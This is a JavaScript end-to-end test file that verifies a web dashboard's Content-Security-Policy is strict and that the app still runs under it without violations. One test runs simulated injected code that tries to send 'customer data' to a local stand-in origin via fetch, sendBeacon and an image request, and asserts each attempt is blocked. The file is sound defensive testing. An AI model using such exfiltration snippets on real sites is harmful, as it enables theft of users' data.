// The Content-Security-Policy of the built app (index.html's <meta>, hashes written by
// scripts/post-build.mjs, and the same policy as a response header from dist/_headers):
// a script that gets into the page cannot send data to another origin or run inline code,
// and the app itself works under the policy (no violation, no console error).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { e2eSetup, serveStatic, openPage, DIST, headerPolicy } from './support.mjs';

const env = e2eSetup();

let receiver;
const received = [];

before(async () => {
  // another origin that would gladly take the data (it answers CORS too)
  receiver = createServer((req, res) => {
    received.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
  });
  await new Promise((ok) => receiver.listen(0, '127.0.0.1', ok));
});

after(async () => {
  await new Promise((ok) => receiver.close(ok));
});

const html = () => readFileSync(join(DIST, 'index.html'), 'utf8');
const metaPolicy = () => html().match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/)[1];

/** Counts every CSP violation the page reports, from its first script on. */
function recordViolations() {
  window.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) => {
    window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample });
  });
}

async function openApp(url = env.server.url) {
  const page = await openPage(env.browser);
  await page.addInitScript(recordViolations);
  await page.addInitScript(() => localStorage.setItem('kpi.lang', 'en'));
  await page.goto(url);
  await page.getByTestId('paste-area').waitFor();
  return page;
}

test('the policy in dist/index.html is the strict one, with a hash for each inline script', () => {
  const policy = metaPolicy();
  const directives = Object.fromEntries(policy.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  assert.deepEqual(directives['default-src'], ["'self'"]);
  assert.deepEqual(directives['connect-src'], ["'self'"]);
  assert.deepEqual(directives['img-src'], ["'self'", 'data:', 'blob:']);
  assert.deepEqual(directives['form-action'], ["'none'"]);
  assert.deepEqual(directives['base-uri'], ["'none'"]);
  assert.deepEqual(directives['object-src'], ["'none'"]);
  assert.ok(!policy.includes("'unsafe-eval'") && !directives['script-src'].includes("'unsafe-inline'"));
  const inline = [...html().matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)].filter(([, a]) => !/\bsrc=/.test(a));
  assert.ok(inline.length >= 1, "Trunk's loader is inline");
  const hashes = inline.map(([, , body]) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`);
  assert.deepEqual(directives['script-src'], ["'self'", "'wasm-unsafe-eval'", ...new Set(hashes)]);
  // the CSP comes before anything it governs
  assert.ok(html().indexOf('Content-Security-Policy') < html().indexOf('<script'));
});

test('an injected script cannot send data to another origin, nor run inline code', async () => {
  const page = await openApp();
  const other = `http://127.0.0.1:${receiver.address().port}/collect`;
  const outcome = await page.evaluate(async (url) => {
    const results = {};
    try {
      await fetch(url, { method: 'POST', body: 'customer data', mode: 'no-cors' });
      results.fetch = 'sent';
    } catch (e) {
      results.fetch = `blocked: ${e.name}`;
    }
    // sendBeacon only queues (it returns true); the policy stops it before it is sent
    navigator.sendBeacon(url, 'customer data');
    const img = new Image();
    const loaded = new Promise((ok) => { img.onload = () => ok('loaded'); img.onerror = () => ok('blocked'); });
    img.src = `${url}?d=customer`;
    results.image = await loaded;
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true;';
    document.body.append(s);
    results.inline = window.__inlineRan === true;
    await new Promise((ok) => setTimeout(ok, 200));
    return { results, violations: window.__violations };
  }, other);
  assert.equal(outcome.results.fetch, 'blocked: TypeError');
  assert.equal(outcome.results.image, 'blocked');
  assert.equal(outcome.results.inline, false);
  const directives = outcome.violations.map((v) => v.directive).sort();
  assert.deepEqual(directives, ['connect-src', 'connect-src', 'img-src', 'script-src-elem']);
  assert.ok(outcome.violations.filter((v) => v.directive !== 'script-src-elem').every((v) => v.blocked.startsWith(other)));
  assert.deepEqual(received, [], 'nothing reached the other origin');
  await page.close();
});

test('the app works under the policy: a sample, its dashboard and charts, no violation', async () => {
  const page = await openApp();
  await page.getByTestId('sample-survey-en.csv').click();
  await page.getByTestId('results').waitFor();
  await page.getByTestId('chart-nps-distribution').locator('canvas').waitFor();
  await page.getByTestId('settings-toggle').click();
  await page.waitForTimeout(300);
  assert.deepEqual(await page.evaluate(() => window.__violations), []);
  page.assertNoErrors();
  await page.close();
});

test('the same policy as a response header (it also covers the analysis worker)', async () => {
  const policy = headerPolicy();
  assert.ok(policy.startsWith(metaPolicy()), 'the header is the <meta> policy plus what only a header can say');
  assert.match(policy, /frame-ancestors 'self'/);
  const strict = await serveStatic(DIST, { prefix: '/app/', headers: () => ({ 'content-security-policy': policy }) });
  try {
    const page = await openApp(strict.url);
    await page.getByTestId('file-input').setInputFiles(join(DIST, 'samples', 'abos-de.csv'));
    await page.getByTestId('results').waitFor();
    await page.getByTestId('chart-mrr').locator('canvas').waitFor();
    assert.deepEqual(await page.evaluate(() => window.__violations), []);
    // the worker runs under the header's policy: it may not reach another origin either
    page.assertNoErrors();
    await page.close();
  } finally {
    await strict.close();
  }
});
